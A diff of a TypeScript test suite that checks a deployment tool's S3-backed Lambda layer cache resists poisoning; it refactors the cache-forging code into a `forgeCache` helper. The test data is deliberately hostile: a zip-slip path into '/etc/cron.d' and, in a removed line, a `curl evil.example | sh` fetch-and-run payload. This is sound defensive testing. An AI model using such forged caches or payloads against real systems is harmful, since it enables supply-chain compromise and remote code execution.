@@ -239,6 +239,31 @@ async function serveWithLayer(sdk: LambdaClient, name: string, layerArn: string)
   await sdk.send(new UpdateAliasCommand({ FunctionName: name, Name: 'qa', FunctionVersion: v.Version! }));
 }
 
+/**
+ * Overwrites a layer cache object, as anyone with write access to it could: a zip of `names` (each
+ * holding `text`), with the metadata an older lci checked it by (its own digest, a tiny size). Its digest.
+ */
+async function forgeCache(world: AwsWorld, key: string, names: string[], text: string): Promise<string> {
+  const path = join(tempDir(), 'evil.zip');
+  const data = Buffer.from(text);
+  await writeZip(
+    names.map((name) => ({ name, source: { data }, size: data.length, executable: false })),
+    path,
+  );
+  const bytes = readFileSync(path);
+  const sha = createHash('sha256').update(bytes).digest('base64');
+  const depsKey = key.split('/').at(-1)!.slice(0, -4);
+  await world.s3.client.send(
+    new PutObjectCommand({
+      Bucket: world.s3.bucket,
+      Key: key,
+      Body: bytes,
+      Metadata: { 'lci-zip-sha256': sha, 'lci-unzipped-bytes': '1', 'lci-deps-key': depsKey },
+    }),
+  );
+  return sha;
+}
+
 const cache = suite('deploy: the layer cache cannot be poisoned (real Docker)');
 
 cache.before(requireDocker);
@@ -255,29 +280,7 @@ cache(
       assert.ok(cacheKey, 'the layer cache is scoped to the function and environment');
 
       // Someone with write access overwrites the cache with a zip-slip layer and matching metadata.
-      const evil = join(tempDir(), 'evil.zip');
-      const data = Buffer.from('import os\n');
-      await writeZip(
-        [
-          { name: '../../etc/cron.d/evil', source: { data }, size: data.length, executable: false },
-          { name: 'python/acme/__init__.py', source: { data }, size: data.length, executable: false },
-        ],
-        evil,
-      );
-      const bytes = readFileSync(evil);
-      const sha = createHash('sha256').update(bytes).digest('base64');
-      await world.s3.client.send(
-        new PutObjectCommand({
-          Bucket: world.s3.bucket,
-          Key: cacheKey!,
-          Body: bytes,
-          Metadata: {
-            'lci-zip-sha256': sha,
-            'lci-unzipped-bytes': '20',
-            'lci-deps-key': cacheKey!.split('/').at(-1)!.slice(0, -4),
-          },
-        }),
-      );
+      await forgeCache(world, cacheKey!, ['../../etc/cron.d/evil', 'python/acme/__init__.py'], 'import os\n');
 
       // A new commit on a fresh machine must publish the layer again: its version was deleted, and
       // the version the alias serves runs without it (else that attached version would be kept).
@@ -365,22 +368,7 @@ cache(
       assert.is(world.lambda.layerVersions('gamma-qa-deps').at(-1)!.Content!.CodeSha256, genuine.Content!.CodeSha256);
 
       // Someone who may write the cache replaces it, metadata and all: the digest it claims is its own.
-      const evil = join(tempDir(), 'evil.zip');
-      const data = Buffer.from('import os\nos.system("curl evil.example | sh")\n');
-      await writeZip(
-        [{ name: 'python/acme/__init__.py', source: { data }, size: data.length, executable: false }],
-        evil,
-      );
-      const bytes = readFileSync(evil);
-      const sha = createHash('sha256').update(bytes).digest('base64');
-      await world.s3.client.send(
-        new PutObjectCommand({
-          Bucket: world.s3.bucket,
-          Key: cacheKey!,
-          Body: bytes,
-          Metadata: { 'lci-zip-sha256': sha, 'lci-unzipped-bytes': '1', 'lci-deps-key': depsKey },
-        }),
-      );
+      const sha = await forgeCache(world, cacheKey!, ['python/acme/__init__.py'], 'import os\nos.system("evil")\n');
       await publishAgainNext();
       const forged = await freshDeploy('v3');
       assert.is(forged.built, 1, 'no published version records the forged digest: the layer was built again');
